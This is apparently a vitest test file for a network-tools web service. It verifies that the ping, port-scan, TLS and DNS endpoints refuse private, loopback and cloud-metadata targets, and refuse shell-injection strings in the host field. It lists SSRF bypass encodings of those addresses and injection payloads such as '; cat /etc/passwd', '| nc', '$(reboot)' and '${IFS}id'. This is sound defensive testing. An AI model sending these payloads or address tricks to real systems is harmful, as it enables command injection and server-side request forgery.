/**
 * Safe by default: every forbidden target (addresses in every textual form, IPv4-mapped, NAT64 and
 * 6to4 forms, cloud metadata, names that resolve to private addresses through a resolver the test
 * controls) is refused by the ping tool, the port scanner and the TLS checker with no connection made and no
 * process started; shell-injection strings never get past the host check; and with private
 * targets allowed (an intranet's setting) the very same loopback targets are reached.
 */
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { post, readStream, startServer, type Running } from '../server/harness.ts';
import { startTestDns, type TestDns } from '../server/dnsServer.ts';
import { connectAttempts } from '../../src/server/targets.ts';
import { processStarts } from '../../src/server/processes.ts';

const FORBIDDEN_ADDRESSES = [
  // Loopback in every form the system's resolver accepts.
  '127.0.0.1', '127.1', '2130706433', '0x7f000001', '0x7f.1', '0177.0.0.1', '017700000001', '127.000.000.001', '0x7f.0.0.0x1', '127.255.255.254',
  // Unspecified, private, carrier-grade NAT, link-local, cloud metadata.
  '0.0.0.0', '0', '10.0.0.1', '012.0.0.1', '10.255.255.255', '172.16.0.1', '172.31.255.255', '192.168.1.1', '3232235777', '0xc0a80101',
  '100.64.0.1', '100.127.255.254', '169.254.1.1', '169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '100.100.100.200', '168.63.129.16', '192.0.0.192',
  // Benchmarking, documentation, multicast, reserved, broadcast, IETF.
  '198.18.0.1', '198.19.255.255', '192.0.2.1', '198.51.100.7', '203.0.113.9', '224.0.0.1', '239.255.255.250', '240.0.0.1', '255.255.255.255', '192.0.0.8', '192.88.99.1',
  // IPv6, and IPv6 forms of blocked IPv4 addresses.
  '::1', '[::1]', '::', '0:0:0:0:0:0:0:1', '::ffff:127.0.0.1', '::ffff:7f00:1', '[::ffff:169.254.169.254]', '::ffff:10.0.0.1', '::127.0.0.1',
  '64:ff9b::127.0.0.1', '64:ff9b::a00:1', '64:ff9b::a9fe:a9fe', '64:ff9b:1::1', '2002:7f00:1::1', '2002:c0a8:101::', 'fc00::1', 'fd12:3456:789a::1', 'fd00:ec2::254',
  'fe80::1', 'fec0::1', 'ff02::1', '2001:db8::1', '100::1', '2001::1',
];
const FORBIDDEN_NAMES = [
  'loopback.test', 'private.test', 'metadata.test', 'v6-loopback.test', 'mapped.test', 'mixed.test', 'cgnat.test', 'ula.test', 'linklocal.test', 'nat64.test',
  'sixtofour.test', 'zero.test', 'multicast.test', 'broadcast.test', 'benchmark.test', 'documentation.test', 'reserved.test', 'both.test', 'LOOPBACK.test.',
];
const INJECTIONS = [
  '8.8.8.8; cat /etc/passwd', '8.8.8.8 && id', '8.8.8.8 | nc 1.2.3.4 80', '$(reboot)', '`id`', 'example.com;id', '-c 100000 8.8.8.8', '--help', '-f 8.8.8.8',
  '8.8.8.8\nid', '8.8.8.8\0', "8.8.8.8' OR '1'='1", 'example.com > /tmp/x', '../../etc/passwd', '<script>alert(1)</script>', '${IFS}id', '8.8.8.8 -s 65000', '%0aid',
];

let client = 0;
/** A different client for every request, through the trusted proxy, so that rate limits stay out of the way. */
const fresh = () => ({ 'x-forwarded-for': `198.18.${Math.floor(++client / 250)}.${(client % 250) + 1}` });

const pingBody = (host: string) => ({ input: { host, count: 1, timeout: 1, interval: 1, size: 56, ttl: 64, port: 80, continuous: false }, options: {}, start: 'start' });
const scanBody = (host: string, port: number) => ({ input: { host, startPort: port, endPort: port + 1 }, options: { range: 'custom', timeout: 1, concurrency: 2, showClosed: true }, start: 'start' });
const tlsBody = (host: string) => ({ input: { host, port: 443 }, options: {}, start: 'check' });
const bodyFor = (tool: string, host: string, port: number) => (tool === 'ping-tool' ? pingBody(host) : tool === 'port-scanner' ? scanBody(host, port) : tlsBody(host));
const TOOLS = ['ping-tool', 'port-scanner', 'ssl-checker'];

describe('refused targets', () => {
  let server: Running;
  let dns: TestDns;
  let listener: Server;
  let port: number;
  let accepted = 0;
  beforeAll(async () => {
    dns = await startTestDns();
    // A listener on loopback: any connection to a forbidden loopback target would reach it.
    listener = createServer((socket) => {
      accepted++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as { port: number }).port;
    server = await startServer({ DNS_SERVERS: dns.server, TRUST_PROXY: '127.0.0.1', PORT_SCAN_ANY_HOST: '1', PING_METHOD: 'tcp' });
  });
  afterAll(async () => {
    await server.close();
    await dns.close();
    listener.close();
  });

  it(`lists at least 50 forbidden targets (${FORBIDDEN_ADDRESSES.length + FORBIDDEN_NAMES.length})`, () => {
    expect(FORBIDDEN_ADDRESSES.length + FORBIDDEN_NAMES.length).toBeGreaterThanOrEqual(50);
  });

  it.each(TOOLS)('%s refuses every forbidden target without connecting or starting a process', async (tool) => {
    const connects = connectAttempts.count;
    const processes = processStarts.count;
    const refused: string[] = [];
    for (const host of [...FORBIDDEN_ADDRESSES, ...FORBIDDEN_NAMES]) {
      const res = await post(server.base, tool, bodyFor(tool, host, port), fresh());
      const body = (await res.json()) as { error?: { code: string; params?: Record<string, unknown> } };
      expect(res.status, host).toBe(422);
      expect(body.error?.code, host).toBe('forbiddenTarget');
      expect(body.error?.params?.field, host).toBe('host');
      refused.push(host);
    }
    expect(refused).toHaveLength(FORBIDDEN_ADDRESSES.length + FORBIDDEN_NAMES.length);
    expect(connectAttempts.count - connects, 'connections made').toBe(0);
    expect(processStarts.count - processes, 'processes started').toBe(0);
    expect(accepted, 'connections the loopback listener accepted').toBe(0);
    // The names were resolved through the test's resolver, once each.
    expect(dns.queries.some((q) => q.endsWith('metadata.test'))).toBe(true);
  });

  it.each(TOOLS)('%s refuses shell-injection strings in the host field before anything else', async (tool) => {
    const connects = connectAttempts.count;
    const processes = processStarts.count;
    const queries = dns.queries.length;
    for (const host of INJECTIONS) {
      const res = await post(server.base, tool, bodyFor(tool, host, port), fresh());
      expect(res.status, host).toBe(400);
      expect(await res.json(), host).toEqual({ error: { code: 'invalidHost', params: { field: 'host' } } });
    }
    expect(connectAttempts.count - connects).toBe(0);
    expect(processStarts.count - processes).toBe(0);
    expect(dns.queries.length - queries, 'DNS questions asked').toBe(0);
  });

  it('refuses a reverse DNS lookup of a private address and a name with a private address among public ones', async () => {
    const ptr = await post(server.base, 'dns-lookup', { input: { name: '10.0.0.1', type: 'PTR' }, options: {}, start: 'lookup' }, fresh());
    expect(ptr.status).toBe(422);
    expect(await ptr.json()).toEqual({ error: { code: 'privateAddress', params: { address: '10.0.0.1' } } });
    const mixed = await post(server.base, 'dns-lookup', { input: { name: 'mixed.test', type: 'A' }, options: {}, start: 'lookup' }, fresh());
    // Like ping and the port scanner: one private address among public ones is how rebinding looks (tests/api/dnsNames.test.ts).
    expect(mixed.status).toBe(422);
    expect(await mixed.json()).toEqual({ error: { code: 'privateName', params: { name: 'mixed.test', field: 'name' } } });
  });

  it('with private targets allowed, reaches the same loopback targets (an intranet setting the tests use for their own listeners)', async () => {
    const intranet = await startServer({ DNS_SERVERS: dns.server, TRUST_PROXY: '127.0.0.1', PORT_SCAN_ANY_HOST: '1', ALLOW_PRIVATE_TARGETS: '1', PING_METHOD: 'tcp' });
    try {
      for (const host of ['127.0.0.1', '2130706433', '0x7f.1', 'loopback.test', '::ffff:127.0.0.1']) {
        const before = accepted;
        const res = await post(intranet.base, 'port-scanner', scanBody(host, port), fresh());
        expect(res.status, host).toBe(200);
        const { parts } = await readStream(res);
        const ports = parts.flatMap((p) => (p.ports as { port: number; state: string }[] | undefined) ?? []);
        expect(ports.find((p) => p.port === port)?.state, host).toBe('open');
        expect(accepted - before, host).toBe(1);
      }
    } finally {
      await intranet.close();
    }
  });
});
